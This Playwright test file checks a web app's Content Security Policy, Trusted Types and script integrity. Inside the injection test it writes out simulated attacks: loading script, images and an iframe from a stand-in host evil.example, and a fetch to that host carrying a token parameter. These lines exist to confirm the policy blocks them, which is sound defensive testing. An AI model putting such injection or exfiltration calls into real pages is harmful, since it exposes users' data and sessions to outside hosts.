import { readFileSync } from 'node:fs'
import { expect, nightly, nightlyUnless, test as base } from '#tests/support/journey.ts'
import { refusedOn } from '#tests/support/pages/refused.ts'

/** Policy violations in every page and frame of a journey. */
const test = base.extend<{ refused: readonly string[] }>({
  refused: async ({ page }, use) => {
    await use(await refusedOn(page))
  },
})

test.describe('with dialogs, notices and the survey', () => {
  test.use({ asksConsent: true })

  test(
    'the policy refuses nothing that opens over a screen',
    nightly,
    async ({ customer, refused }) => {
      const { page } = customer
      await page.emulateMedia({ colorScheme: 'light' })
      await customer.comeBack('Anna de Vries')
      await page.getByRole('button', { name: 'Accept all' }).click()
      await page.waitForLoadState('networkidle')
      await page.keyboard.press('?')
      await expect(page.getByRole('dialog')).toBeVisible()
      await page.keyboard.press('Escape')
      await customer.open('/my-photos/photos')
      await page.getByRole('button', { name: 'Add photos' }).click()
      await expect(page.getByRole('dialog')).toBeVisible()

      expect(refused).toEqual([])
    },
  )
})

test('scripts injected into a page are refused', async ({ customer, refused }) => {
  const { page } = customer
  await customer.comeBack('Anna de Vries')
  const isRefused = await page.evaluate(async () => {
    const attempts: (() => unknown)[] = [
      () => {
        document.body.innerHTML = '<b>written</b>'
      },
      () => {
        document.createElement('script').src = 'https://evil.example/a.js'
      },
    ]
    const thrown = attempts.map(attempt => {
      try {
        attempt()
        return 'done'
      } catch (error) {
        return error instanceof Error ? error.name : 'thrown'
      }
    })
    const style = document.createElement('style')
    style.textContent = 'body { display: none }'
    const picture = document.createElement('img')
    picture.src = 'https://evil.example/a.png'
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(style, picture, frame)
    const called = await fetch('https://evil.example/?token=1').then(
      () => 'done',
      (error: unknown) => (error instanceof Error ? error.name : 'thrown'),
    )
    // Run `eval` in a timer: the policy does not apply to code that Playwright itself evaluates.
    const evaluated = await new Promise(resolve => {
      setTimeout(() => {
        try {
          Reflect.get(window, 'eval')('1')
          resolve('done')
        } catch (error) {
          resolve(error instanceof Error ? error.name : 'thrown')
        }
      })
    })
    return [...thrown, called, evaluated]
  })

  expect(isRefused).toEqual(['TypeError', 'TypeError', 'TypeError', 'EvalError'])
  await expect
    .poll(() => new Set(refused.map(words => words.split(' ')[0])))
    .toEqual(
      new Set([
        'connect-src',
        'frame-src',
        'img-src',
        'require-trusted-types-for',
        'style-src-elem',
      ]),
    )
  customer.complaints.splice(0)
})

for (const { how, link, script } of [
  { how: 'loads on demand', link: 'Orders', script: /\/assets\/orders\.screen-[\w-]+\.js/u },
  { how: 'imports statically', link: 'Settings', script: /\/assets\/account-[\w-]+\.js/u },
]) {
  test(
    `a script that the page ${how} does not run if it was changed in transit`,
    nightlyUnless(how === 'loads on demand'),
    async ({ customer }) => {
      const { page } = customer
      await customer.comeBack('Anna de Vries')
      let changed = 0
      await page.route(script, async route => {
        const original = readFileSync(`dist${new URL(route.request().url()).pathname}`, 'utf8')
        changed += 1
        await route.fulfill({
          contentType: 'text/javascript',
          body: `window.tampered = true;${original}`,
        })
      })
      await page.getByRole('navigation', { name: 'Account' }).getByText(link).click()

      await expect(page.getByRole('alert')).toContainText('An unexpected error has occurred')
      expect(changed).toBeGreaterThan(0)
      expect(await page.evaluate(() => Reflect.get(window, 'tampered'))).toBeUndefined()
      customer.complaints.splice(0)
    },
  )
}

test(
  'a script that is fetched again does not run when it was changed in transit',
  nightly,
  async ({ customer }) => {
    const { page } = customer
    const asked: string[] = []
    await page.route(/\/assets\/DeliveryAddressForm-[\w-]+\.js/u, async route => {
      const { pathname, search } = new URL(route.request().url())
      asked.push(search)
      const original = readFileSync(`dist${pathname}`, 'utf8')
      await route.fulfill(
        search === ''
          ? { status: 503, contentType: 'text/plain', body: 'Later' }
          : { contentType: 'text/javascript', body: `window.tampered = true;${original}` },
      )
    })
    await customer.comeBack('Anna de Vries', '/orders/A-48213')
    await page.getByRole('button', { name: 'Change delivery address' }).click()
    await page.getByRole('button', { name: 'Try again' }).click()

    await expect.poll(() => asked).toContain('?again=1')
    expect(await page.evaluate(() => Reflect.get(window, 'tampered'))).toBeUndefined()
    customer.complaints.splice(0)
  },
)
